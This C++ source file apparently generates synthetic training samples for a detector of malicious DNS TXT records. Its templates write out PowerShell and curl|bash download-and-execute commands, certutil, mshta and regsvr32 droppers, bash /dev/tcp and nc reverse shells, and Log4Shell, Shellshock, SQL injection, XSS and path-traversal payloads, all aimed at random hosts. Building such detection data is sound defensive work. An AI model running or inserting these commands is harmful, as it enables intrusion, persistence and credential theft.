// Command lines that a dropper reads from a TXT record and runs, and strings that exploit programs
// which read the record. All hosts and names are random.
#include <string>

#include "train/concat.h"
#include "train/encodings.h"
#include "train/grammars/kind.h"
#include "train/names.h"

namespace txtsentry::train {
namespace {

std::string Stem(Rng& rng) {
  const int count = rng.Range(3, 10);
  return rng.Characters(kLower, count);
}

// Returns a download URL: a host name or an address, a port, a file.
std::string DropUrl(Rng& rng, const char* ending) {
  std::string url = rng.Chance(75) ? "http://" : "https://";
  url += rng.Chance(40) ? Ipv4(rng) : HostName(rng);
  if (rng.Chance(45)) url += Concat({":", rng.Pick({"8000", "8888", "9001", "4455", "81"})});
  return Concat({url, "/", Stem(rng), ending});
}

std::string PowerShell(Rng& rng) {
  const std::string caller =
      rng.Chance(60) ? "powershell " : rng.Pick({"powershell.exe ", "pwsh ", ""});
  switch (rng.Below(10)) {
    case 6:
      return Concat({rng.Pick({"@", "", "&"}), "$", Stem(rng), "=(nslookup -q=txt \"",
                     Number(rng, 1, 40), ".", HostName(rng), "\") -match '@(.*)@'",
                     rng.Pick({"@", ";iex $matches[1]", "|iex", ""})});
    case 7:
      return Concat({caller,
                     rng.Pick({"iex ((nslookup -querytype=TXT ", "& {(Resolve-DnsName -Type TXT "}),
                     HostName(rng), rng.Pick({") -join '')", ").Strings | iex}"})});
    case 8:
      return Concat({"$", Stem(rng), "='", Base64Encode(Sentence(rng, rng.Range(2, 9))),
                     "';$b=[Convert]::FromBase64String($", Stem(rng),
                     ");[Text.Encoding]::UTF8.GetString($b)|iex"});
    case 9:
      return Concat({caller,
                     rng.Pick({"Add-MpPreference -ExclusionPath ", "Start-BitsTransfer ",
                               "Set-ExecutionPolicy Bypass; ", "Expand-Archive "}),
                     DropUrl(rng, ".zip"), " $env:", rng.Pick({"TEMP", "APPDATA", "PUBLIC"}), "\\",
                     Stem(rng)});
    case 0:
      return Concat({caller,
                     rng.Pick({"-nop -w hidden -enc ", "-enc ", "-NoP -NonI -W Hidden -Enc ", "-e ",
                               "-EncodedCommand "}),
                     Base64Encode(Utf16Le(Sentence(rng, rng.Range(3, 20))))});
    case 1:
      return Concat({caller, rng.Pick({"IEX", "iex", "Invoke-Expression"}),
                     rng.Pick({"(New-Object Net.WebClient).DownloadString('",
                               " (new-object system.net.webclient).downloadstring('"}),
                     DropUrl(rng, ".ps1"), "')"});
    case 2:
      return Concat({caller, rng.Pick({"iwr ", "irm ", "Invoke-WebRequest -UseBasicParsing "}),
                     DropUrl(rng, rng.Pick({".ps1", "", ".txt"})), rng.Pick({"|iex", " | IEX"})});
    case 3:
      return Concat({"&([scriptblock]::Create([Text.Encoding]::ASCII.GetString([Convert]::",
                     "FromBase64String('", Base64Encode(Sentence(rng, 4)), "'))))"});
    case 4:
      return Concat({"powershell (nslookup -q=txt ", HostName(rng), ")[-1]"});
    default:
      return Concat({caller, "Start-Process '%TEMP%\\", Stem(rng), ".exe' -WindowStyle Hidden"});
  }
}

Draft PowerShellCommand(Rng& rng) { return {PowerShell(rng), ""}; }

std::string WindowsTool(Rng& rng) {
  const std::string name = Stem(rng);
  switch (rng.Below(12)) {
    case 9:
      return Concat({"msiexec /q /i ", DropUrl(rng, ".msi")});
    case 10:
      return Concat({"for /f \"tokens=*\" %i in ('nslookup -q=txt ", HostName(rng), "') do ",
                     rng.Pick({"%i", "cmd /c %i", "@echo %i"})});
    case 11:
      return Concat({rng.Pick({"cmd", "cmd=", "task="}), rng.Pick({"download", "exec", "update"}),
                     ";url=", DropUrl(rng, ""), ";path=%", rng.Pick({"APPDATA", "TEMP"}), "%\\",
                     name, ".dat"});
    case 0:
      return Concat(
          {"certutil -urlcache -split -f ", DropUrl(rng, ".bin"), " %TEMP%\\", name, ".exe"});
    case 1:
      return Concat({"mshta ", DropUrl(rng, ".hta")});
    case 2:
      return Concat({"rundll32 \\\\", HostName(rng), "@80\\", name, "\\", name, ".dll,Start"});
    case 3:
      return Concat({"regsvr32 /s /n /u /i:", DropUrl(rng, ".sct"), " scrobj.dll"});
    case 4:
      return Concat({"cmd /c curl -s -o %TEMP%\\", name, ".exe ", DropUrl(rng, ".exe"),
                     " && %TEMP%\\", name, ".exe"});
    case 5:
      return Concat({"schtasks /create /tn ", name, " /tr \"C:\\ProgramData\\", name,
                     ".exe\" /sc minute /mo ", Number(rng, 1, 60)});
    case 6:
      return Concat({"bitsadmin /transfer ", name, " ", DropUrl(rng, ".exe"),
                     " C:\\Users\\Public\\", name, ".exe"});
    case 7:
      return Concat({"wmic process call create \"", name, ".exe\""});
    default:
      return Concat({"task=get&src=", DropUrl(rng, ""), "&dst=%LOCALAPPDATA%\\", name});
  }
}

Draft WindowsCommand(Rng& rng) { return {WindowsTool(rng), ""}; }

std::string Shell(Rng& rng) {
  const std::string name = Stem(rng);
  switch (rng.Below(7)) {
    case 0:
      return Concat({rng.Pick({"curl -fsSL ", "curl -s ", "curl -sL "}), DropUrl(rng, ".sh"),
                     rng.Pick({" | bash", "|sh", " | sudo bash"})});
    case 1:
      return Concat({rng.Pick({"wget -qO- ", "wget -O- "}), DropUrl(rng, ".sh"),
                     rng.Pick({"|sh", " | bash"})});
    case 2:
      return Concat(
          {"bash -c 'bash -i >& /dev/tcp/", Ipv4(rng), "/", Number(rng, 1024, 65000), " 0>&1'"});
    case 3:
      return Concat({"python3 -c \"import base64;exec(base64.b64decode('",
                     Base64Encode(Sentence(rng, 5)), "'))\""});
    case 4:
      return Concat({"echo ", Base64Encode(Sentence(rng, 5)), "|base64 -d|sh"});
    case 5:
      return Concat({"nohup wget -q ", DropUrl(rng, ""), " -O /tmp/.", name, ";chmod +x /tmp/.",
                     name, ";/tmp/.", name, " &"});
    default:
      return Concat(
          {"nc ", Ipv4(rng), " ", Number(rng, 1024, 65000), " -e /bin/", rng.Pick({"sh", "bash"})});
  }
}

Draft ShellCommand(Rng& rng) { return {Shell(rng), ""}; }

Draft ScriptCommand(Rng& rng) {
  switch (rng.Below(4)) {
    case 0:
      return {Concat({"eval(atob('", Base64Encode(Sentence(rng, 5)), "'))"}), ""};
    case 1:
      return {Concat({"<script>document.location='", DropUrl(rng, ""), "'</script>"}), ""};
    case 2:
      return {Concat({"var x=new ActiveXObject('WScript.Shell');x.Run('", Stem(rng), ".exe')"}),
              ""};
    default:
      return {Concat({"fetch('", DropUrl(rng, ".js"), "').then(r=>r.text()).then(eval)"}), ""};
  }
}

Draft ExploitString(Rng& rng) {
  switch (rng.Below(12)) {
    case 9:
      return {Concat({rng.Pick({"; ", "| ", "&& ", "|| ", "\n"}),
                      rng.Pick({"cat /etc/passwd", "id", "ping -c 3 ", "wget ", "nslookup ",
                                "cat /etc/shadow", "uname -a"}),
                      rng.Chance(40) ? Ipv4(rng) : std::string()}),
              ""};
    case 10:
      return {Concat({"() { :; }; ",
                      rng.Pick({"/bin/ping -c 3 ", "curl ", "/usr/bin/id ", "echo "}), Ipv4(rng)}),
              ""};
    case 11:
      return {Concat({rng.Pick({"<iframe src='//", "<script src=//", "<object data='http://"}),
                      HostName(rng), rng.Pick({"'></iframe>", "></script>", "'></object>"})}),
              ""};
    case 0:
      return {Concat({"${jndi:", rng.Pick({"ldap", "dns", "rmi"}), "://", HostName(rng), "/",
                      Stem(rng), "}"}),
              ""};
    case 1:
      return {
          Concat({"() { :; }; /bin/", rng.Pick({"wget -q http://", "bash -c 'nc "}), Ipv4(rng)}),
          ""};
    case 2:
      return {
          Concat({"<img src=x onerror=", rng.Pick({"alert(1)", "fetch('//"}), HostName(rng), ">"}),
          ""};
    case 3:
      return {Concat({"'; DROP TABLE ", Word(rng), "; --"}), ""};
    case 4:
      return {Concat({"' ", rng.Pick({"OR", "AND", "or"}), " '", Number(rng, 1, 9), "'='1' --"}),
              ""};
    case 5: {
      std::string path;
      for (int levels = rng.Range(2, 8); levels > 0; --levels) path += "../";
      return {path + rng.Pick({"etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini"}), ""};
    }
    case 6:
      return {Concat({"$(", rng.Pick({"curl ", "id;wget ", "nslookup "}), DropUrl(rng, ""), ")"}),
              ""};
    case 7:
      return {Concat({"`", rng.Pick({"id", "whoami", "uname -a", "sleep 5"}), "`"}), ""};
    default:
      return {Concat({"\"><", rng.Pick({"svg onload=", "body onload=", "script>"}),
                      rng.Pick({"alert(1)", "prompt(1)", "eval(name)"}), ">"}),
              ""};
  }
}

constexpr Kind kKinds[] = {{"powershell_command", 1, 24, PowerShellCommand},
                           {"windows_command", 1, 20, WindowsCommand},
                           {"shell_command", 1, 20, ShellCommand},
                           {"script_command", 1, 8, ScriptCommand},
                           {"exploit_string", 1, 12, ExploitString}};

}  // namespace

absl::Span<const Kind> CommandKinds() { return kKinds; }

}  // namespace txtsentry::train
